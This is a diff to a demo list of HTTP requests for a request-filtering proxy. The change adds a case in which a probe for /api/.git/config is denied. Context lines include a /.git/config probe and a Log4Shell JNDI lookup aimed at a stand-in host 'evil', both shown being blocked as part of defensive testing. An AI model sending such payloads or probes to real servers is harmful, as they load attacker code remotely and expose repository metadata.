@@ -46,6 +46,9 @@ REQUESTS = (
     ),
     DemoRequest("Denied on the path: a probe for VCS metadata (403 with a request id, nothing more).",
                 "GET", "/.git/config", 403),
+    DemoRequest("The same probe on the API route: a route's own rules are added to the default ones, not "
+                "put in their place (`extproc check-config` lists the rules of each route).",
+                "GET", "/api/.git/config", 403),
     DemoRequest(
         "Denied after body inspection: a Log4Shell lookup inside a JSON field.",
         "POST", "/api/orders", 403, {"content-type": "application/json"}, '{"note": "${jndi:ldap://evil/a}"}',
